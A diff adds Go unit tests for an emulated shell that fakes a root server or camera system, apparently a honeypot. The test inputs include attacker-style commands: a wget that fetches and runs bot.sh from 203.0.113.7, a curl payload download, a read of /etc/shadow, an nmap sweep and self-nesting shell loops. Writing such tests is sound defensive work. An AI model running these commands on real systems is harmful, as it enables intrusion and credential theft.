@@ -0,0 +1,131 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestShellCommands(t *testing.T) {
+    sh := New("srv-web01", "root")
+
+    assert.Equal(t, "root@srv-web01:~# ", sh.Prompt())
+    assert.Equal(t, "uid=0(root) gid=0(root) groups=0(root)\n", sh.Exec("id"))
+    assert.Equal(t, "srv-web01\n", sh.Exec("uname -n"))
+    assert.Contains(t, sh.Exec("uname -a"), "5.4.0-169-generic")
+    assert.Equal(t, "-bash: nmap: command not found\n", sh.Exec("nmap -sS 10.0.0.0/8"))
+
+    assert.Empty(t, sh.Exec("cd /var/www"))
+    assert.Equal(t, "/var/www\n", sh.Exec("pwd"))
+    assert.Equal(t, "root@srv-web01:/var/www# ", sh.Prompt())
+    assert.Equal(t, "html\n", sh.Exec("ls"))
+    assert.Equal(t, "-bash: cd: /nope: No such file or directory\n", sh.Exec("cd /nope"))
+}
+
+func TestShellPresentsItsSystem(t *testing.T) {
+    stock := New("srv-web01", "root")
+    assert.Contains(t, stock.Motd(), "Welcome to Ubuntu 20.04.6 LTS (GNU/Linux 5.4.0-169-generic x86_64)")
+    assert.Equal(t, "x86_64 x86_64\n", stock.Exec("uname -m -p"))
+
+    sh := NewWithHome(System{
+        Name:    "Camera OS 2",
+        Kernel:  "3.0.8",
+        Machine: "armv7l",
+        Motd:    "{{.Name}} on {{.Machine}}\n",
+    }, "cam", "root", "/root")
+    assert.Equal(t, "Camera OS 2 on armv7l\n", sh.Motd())
+    assert.Equal(t, "3.0.8 armv7l unknown\n", sh.Exec("uname -r -m -p"))
+    assert.Equal(t, "Camera OS 2 \\n \\l\n\n", sh.Exec("cat /etc/issue"))
+    // Fields left empty keep the stock values
+    assert.Contains(t, sh.Exec("cat /proc/version"), "Linux version 3.0.8 (buildd@")
+}
+
+func TestShellRedirectionAndPipes(t *testing.T) {
+    sh := New("srv-web01", "root")
+
+    assert.Empty(t, sh.Exec("cd /tmp; echo one > notes; echo two >> notes"))
+    assert.Equal(t, "one\ntwo\n", sh.Exec("cat notes"))
+    assert.Equal(t, "two\n", sh.Exec("cat /tmp/notes | grep tw"))
+    assert.Equal(t, "2\n", sh.Exec("cat notes | wc -l"))
+    assert.Equal(t, "yes\n", sh.Exec("grep -q one notes && echo yes || echo no"))
+    assert.Equal(t, "no\n", sh.Exec("grep three notes && echo yes || echo no"))
+    assert.Equal(t, "/root /tmp\n", sh.Exec(`echo $HOME "$PWD"`))
+    assert.Equal(t, "$HOME\n", sh.Exec(`echo '$HOME'`))
+}
+
+func TestShellDownloads(t *testing.T) {
+    sh := New("srv-web01", "admin")
+
+    out := sh.Exec("cd /tmp && wget http://203.0.113.7/bot.sh")
+    assert.Contains(t, out, "'bot.sh' saved")
+    assert.Equal(t, "-bash: ./bot.sh: Permission denied\n", sh.Exec("./bot.sh"))
+    assert.Empty(t, sh.Exec("chmod +x bot.sh; ./bot.sh"))
+    assert.Empty(t, sh.Exec("curl -o x.bin http://203.0.113.7/x.bin"))
+    assert.Contains(t, sh.Exec("ls -la"), "x.bin")
+}
+
+func TestShellPermissionsAndExit(t *testing.T) {
+    sh := New("srv-web01", "admin")
+
+    assert.Equal(t, "admin@srv-web01:~$ ", sh.Prompt())
+    assert.Equal(t, "cat: /etc/shadow: Permission denied\n", sh.Exec("cat /etc/shadow"))
+    assert.True(t, strings.HasPrefix(sh.Exec("cat /etc/passwd"), "root:x:0:0:"))
+    assert.Contains(t, sh.Exec("history"), "cat /etc/shadow")
+
+    assert.False(t, sh.Exited())
+    assert.Equal(t, "logout\n", sh.Exec("exit"))
+    assert.True(t, sh.Exited())
+}
+
+func TestShellNestingIsBounded(t *testing.T) {
+    sh := New("srv-web01", "root")
+
+    assert.Equal(t, "nested\n", sh.Exec(`sh -c "sudo sh -c 'echo nested'"`))
+    assert.Empty(t, sh.Exec(`A='sh -c $A'`))
+    assert.Equal(t, "-bash: sh: maximum nesting level exceeded (32)\n", sh.Exec(`sh -c "$A"`))
+    assert.Equal(t, 1, sh.Status())
+    assert.Contains(t, sh.Exec(`sudo sh -c "$A"`), "maximum nesting level exceeded")
+    assert.Empty(t, sh.Exec(`S='sudo -u root sh -c $S'`))
+    assert.Contains(t, sh.Exec(`sh -c "$S"`), "maximum nesting level exceeded")
+}
+
+func TestShellVariablesAndHistoryAreBounded(t *testing.T) {
+    sh := New("srv-web01", "root")
+
+    assert.Empty(t, sh.Exec("A=" + strings.Repeat("x", 256)))
+    for i := 0; i < 5; i++ {
+        sh.Exec("A=" + strings.Repeat("$A", 16))
+    }
+    assert.LessOrEqual(t, len(sh.env["A"]), maxWordSize)
+    assert.Len(t, sh.Exec(`echo "$A$A"`), maxWordSize+1)
+
+    // Variables together stay under maxEnvSize
+    for _, name := range []string{"B", "C", "D", "E", "F"} {
+        sh.Exec("export " + name + "=$A")
+    }
+    assert.Equal(t, "-bash: xmalloc: cannot allocate 65535 bytes\n", sh.Exec("G=$A"))
+    assert.Equal(t, 2, sh.Status())
+    assert.Empty(t, sh.Exec("A=small"))
+
+    for i := 0; i < maxHistory+10; i++ {
+        sh.Exec("true")
+    }
+    assert.Len(t, sh.history, maxHistory)
+    assert.True(t, strings.HasSuffix(sh.Exec("history"), " 1025  history\n"))
+}
+
+func TestShellFilesystemIsBounded(t *testing.T) {
+    sh := New("srv-web01", "root")
+    // The stock files count against the total too
+    sh.FS().SetLimits(1000, sh.FS().used+1500)
+
+    assert.NoError(t, sh.FS().WriteFile("/tmp/a", []byte(strings.Repeat("x", 400)), "root", false))
+    assert.Empty(t, sh.Exec("cd /tmp; cat a a > b"))
+    assert.Equal(t, "-bash: c: No space left on device\n", sh.Exec("cat a a > c"))
+    assert.Equal(t, "cat: write error: No space left on device\n", sh.Exec("cat b b > /dev/null"))
+    assert.Equal(t, "-bash: b: No space left on device\n", sh.Exec("cat a >> b"))
+
+    // Removing files frees their space for new ones
+    assert.Empty(t, sh.Exec("rm b; cat a a > c"))
+}